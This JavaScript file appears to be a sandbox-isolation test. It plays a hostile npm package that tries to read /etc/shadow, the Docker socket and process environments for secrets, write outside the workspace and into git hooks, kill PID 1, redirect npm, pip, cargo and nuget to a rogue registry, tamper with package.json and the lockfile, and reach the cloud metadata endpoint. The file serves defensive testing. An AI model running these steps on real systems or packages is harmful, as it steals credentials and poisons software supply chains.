'use strict';

// What a hostile package does when its scripts run, and again when the tests run. Every attempt that gets somewhere is reported as "got in".
const fs = require('node:fs');
const net = require('node:net');
const child = require('node:child_process');

const { stage, secret, host, listener, sleep } = JSON.parse(fs.readFileSync('attack.json', 'utf8'));
const report = {};

function attempt(name, action) {
  try {
    action();
    report[name] = 'got in';
  } catch (error) {
    report[name] = error.code ?? error.message;
  }
}

function only(condition) {
  if (!condition) {
    throw new Error('nothing there');
  }
}

function connect(name, port, address) {
  return new Promise(resolve => {
    const socket = net.connect({ port, host: address, timeout: 3000 });
    const end = result => {
      report[name] = result;
      socket.destroy();
      resolve();
    };
    socket.on('connect', () => end('got in'));
    socket.on('timeout', () => end('timeout'));
    socket.on('error', error => end(error.code));
  });
}

function environments() {
  return fs.readdirSync('/proc').filter(name => /^\d+$/.test(name)).map(name => {
    try {
      return fs.readFileSync(`/proc/${name}/environ`, 'utf8');
    } catch {
      return '';
    }
  }).join('\n');
}

// Reads.
attempt('the passwords', () => fs.readFileSync('/etc/shadow'));
attempt('the home of root', () => fs.readdirSync('/root'));
attempt('homes of others', () => only(fs.readdirSync('/home').some(name => name !== 'sandbox')));
attempt('the engine', () => fs.statSync('/var/run/docker.sock'));
attempt('the root of the first process', () => fs.readFileSync('/proc/1/root/etc/shadow'));
attempt('the own environment', () => only(JSON.stringify(process.env).includes(secret)));
attempt('other environments', () => only(environments().includes(secret)));
attempt('the environment of the worker', () => only(fs.readFileSync(`/proc/${host}/environ`, 'utf8').includes(secret)));
attempt('the control groups', () => fs.readdirSync('/sys/fs/cgroup'));

// Writes.
attempt('a program', () => fs.writeFileSync('/usr/bin/evil', ''));
attempt('the configuration', () => fs.writeFileSync('/etc/evil', ''));
attempt('beside the workspace', () => fs.writeFileSync('../evil', ''));
attempt('through a link', () => {
  fs.rmSync('link', { force: true });
  fs.symlinkSync('/etc', 'link');
  fs.writeFileSync('link/evil', '');
});
attempt('a hook', () => {
  fs.mkdirSync('.git/hooks', { recursive: true });
  fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\n', { mode: 0o755 });
});
attempt('the configuration of git', () => fs.appendFileSync('.git/config', '[core]\n\thooksPath = .\n'));

// Processes.
attempt('the worker', () => process.kill(host, 'SIGKILL'));
attempt('the first process', () => {
  process.kill(1, 'SIGKILL');
  process.kill(1, 0);
  throw new Error('still there');
});
child.spawn('setsid', ['sleep', sleep], { detached: true, stdio: 'ignore' }).unref();

// Plants for whoever comes next: all of these succeed, and must have no effect.
const registry = `registry=http://127.0.0.1:${listener}/\n`;
for (const file of ['.npmrc', `${process.env.HOME}/.npmrc`]) {
  fs.writeFileSync(file, registry);
}

fs.mkdirSync('.cargo', { recursive: true });
fs.writeFileSync('.cargo/config.toml', `[source.crates-io]\nreplace-with = "evil"\n`);
fs.writeFileSync('pip.conf', `[global]\nindex-url = http://127.0.0.1:${listener}/\n`);
fs.writeFileSync('nuget.config', `<configuration><packageSources><add key="evil" value="http://127.0.0.1:${listener}/" /></packageSources></configuration>`);
fs.writeFileSync('package.json', fs.readFileSync('package.json', 'utf8').replace('"dependencies": {', '"dependencies": {\n    "evil": "1.0.0",'));
fs.writeFileSync('package-lock.json', fs.readFileSync('package-lock.json', 'utf8').replaceAll('2.1.3', '6.6.6'));

// Files that are hard to remove.
fs.mkdirSync(`locked-${stage}/inside`, { recursive: true });
fs.writeFileSync(`locked-${stage}/inside/file\nwith\u202Ename`, '');
fs.chmodSync(`locked-${stage}/inside`, 0o000);
fs.chmodSync(`locked-${stage}`, 0o000);
child.execFileSync('perl', ['-e', 'for (1..300) { mkdir "d" x 200; chdir "d" x 200 or last }']);

Promise.all([
  connect('services of the machine', listener, '127.0.0.1'),
  connect('the metadata of the cloud', 80, '169.254.169.254'),
  connect('another machine', 443, '192.0.2.1'),
]).then(() => {
  fs.writeFileSync('attack.json', JSON.stringify({ stage: 'test', secret, host, listener, sleep }));
  fs.appendFileSync('attack.log', `ATTACK ${JSON.stringify(report)}\n`);
  if (stage === 'test') {
    console.log(fs.readFileSync('attack.log', 'utf8'));
  }
});
